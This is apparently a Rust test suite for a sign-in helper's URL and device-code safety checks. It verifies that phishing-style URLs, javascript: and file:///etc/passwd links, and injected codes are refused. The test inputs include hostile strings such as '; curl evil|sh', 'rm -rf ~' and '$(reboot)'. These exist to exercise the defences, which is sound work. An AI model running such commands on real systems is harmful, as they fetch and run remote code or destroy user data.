//! The URL policy in a sign-in: only addresses that pass it are opened.

use pretty_assertions::assert_eq;

use super::{Recorded, TOKEN, expect_clean, expired, mixed, reauth};
use crate::support::GatewayHome;

const STRANGE: &str =
    "https://signin.example.net/oauth/authorize?IA9P4s1YOgEyLtce-upoKcksSoUE-CbmWZ1irx-0tMT4";
const QUESTION: &str = "radio -t home shows a page on signin.example.net, which is no known sign-in host \
                        -v Do not open it,Open it this once\n";
const CODE_DIALOG: &str =
    "text -t home: paste the code from signin.example.net -i Copied it? Just tap OK\n";

/// Nothing was opened, copied or offered.
#[track_caller]
fn expect_untouched(gateway: &GatewayHome, ran: &super::Ran) {
    assert_eq!(ran.opened(), [""; 0]);
    assert_eq!(
        ran.log("termux-clipboard-set") + &ran.log("termux-notification"),
        ""
    );
    expect_clean(gateway, ran, TOKEN);
}

#[test]
fn a_page_that_may_never_be_opened_ends_the_sign_in() {
    let table = [
        (
            "https://me:pw@claude.ai/oauth/authorize?x=1",
            "it has a user name before its host",
        ),
        (
            "https://claude.ai@evil.example/oauth/authorize",
            "it has a user name before its host",
        ),
        (
            "http://claude.ai/oauth/authorize?x=1",
            "it is not an https address",
        ),
        (
            "https://claude.ai:8443/oauth",
            "it leads to an unusual port",
        ),
        (
            "https://127.0.0.1/oauth",
            "its host is a number, not a name",
        ),
        ("https://xn--claude-x.ai/", "its host is in disguise (xn--)"),
        (
            "https://claude.ai/oauth/authorize?redirect_uri=https%3A%2F%2Fevil.example%2F&state=1",
            "its answer would go to evil.example",
        ),
        (
            "https://claude.ai/oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A22%2Fx",
            "its answer needs the protected port 22",
        ),
    ];
    for (url, reason) in table {
        let gateway = expired().reply("claude-url", url);
        let ran = reauth(&gateway, "").run().status(1).stdout("");
        assert_eq!(
            ran.stderr,
            format!(
                "home: starting the sign-in…\nclawtap: home: its page was not opened: {reason}\n\
                 → The old login is as it was. Look on the gateway who asks for that page\n"
            )
        );
        expect_untouched(&gateway, &ran);
    }
}

#[test]
fn what_is_no_page_at_all_is_not_opened() {
    for url in [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "intent://claude.ai#Intent;end",
    ] {
        let gateway = expired().reply("claude-url", url);
        let ran = reauth(&gateway, "cancel").run().status(1);
        expect_untouched(&gateway, &ran);
    }
}

#[test]
fn a_page_on_an_unknown_host_is_asked_about_before_anything_else() {
    for answer in ["0", "cancel"] {
        let gateway = expired().reply("claude-url", STRANGE);
        let ran = reauth(&gateway, answer).run().status(1).stdout("");
        assert_eq!(ran.log("termux-dialog"), QUESTION);
        expect_untouched(&gateway, &ran);
    }
    let gateway = expired().reply("claude-url", STRANGE);
    let ran = reauth(&gateway, "1 code").run().status(0);
    assert_eq!(ran.log("termux-dialog"), format!("{QUESTION}{CODE_DIALOG}"));
    assert_eq!(ran.opened(), [STRANGE]);
}

#[test]
fn a_refused_host_is_named_with_the_key_that_allows_it() {
    let gateway = expired().reply("claude-url", STRANGE);
    let ran = reauth(&gateway, "0").run().status(1);
    let _ = ran.stderr(
        "\
home: starting the sign-in…
clawtap: home: its page was not opened: signin.example.net is not known
→ If you trust it, name its host in allowed_hosts under [signin] in the config
",
    );
    let gateway = expired().reply("claude-url", STRANGE);
    let config = "[[gateway]]\nname = \"home\"\nssh = \"me@home.example\"\n[signin]\nallowed_hosts = [\"signin.example.net\"]\n";
    let ran = reauth(&gateway, "code").config(config).run().status(0);
    assert_eq!(ran.log("termux-dialog"), CODE_DIALOG);
    assert_eq!(ran.opened(), [STRANGE]);
}

#[test]
fn a_device_code_that_is_a_command_is_not_copied() {
    for code in [
        "$(reboot)",
        "rm -rf ~",
        "; curl evil|sh",
        "ABCDEFGHIJKLMNOPQRSTUV",
    ] {
        let gateway = mixed().reply(
            "at-login",
            &format!(
                "printf 'Open this URL in your LOCAL browser and enter the code below.\\r\\n\
                 URL: <https://auth.openai.com/codex/device>\\r\\nCode: %s\\r\\n\\r\\nError: denied\\r\\n' '{code}'; exit 1"
            ),
        );
        let ran = reauth(&gateway, "").args(["--provider", "openai"]).run();
        let ran = ran.status(1).stdout("");
        assert_eq!(ran.log("termux-clipboard-set"), "", "{code}");
        let told = ran.toasts().join("\n") + &ran.log("termux-notification");
        assert!(!told.contains(code), "{told}");
        expect_clean(&gateway, &ran, TOKEN);
    }
}
